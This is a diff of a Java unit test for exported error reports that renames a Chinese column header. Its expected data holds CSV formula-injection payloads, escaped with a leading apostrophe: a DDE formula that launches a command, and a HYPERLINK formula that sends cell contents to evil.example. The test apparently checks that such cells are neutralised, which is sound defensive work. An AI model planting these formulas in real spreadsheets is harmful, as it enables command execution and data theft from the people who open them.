@@ -34,7 +34,7 @@ class ErrorReportsTests {
             new RowError(0, null, "FILE_TOO_MANY_ROWS", "文件的数据行数超过允许的上限"));
 
     private static final List<List<String>> EXPECTED = List.of(
-            List.of("行号", "来源记录编号", "证件号码（脱敏）", "字段", "错误代码", "说明"),
+            List.of("行号", "部门记录编号", "证件号码（脱敏）", "字段", "错误代码", "说明"),
             List.of("2", "ZX-2025-001", "1101**********002Y", "身份证号", "ID_CHECKSUM", "身份号码校验码不正确（GB 11643-1999）"),
             List.of("3", "'=cmd|' /C calc'!A0", "'-1**4", "'=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")", "'+1",
                     "'-2"),
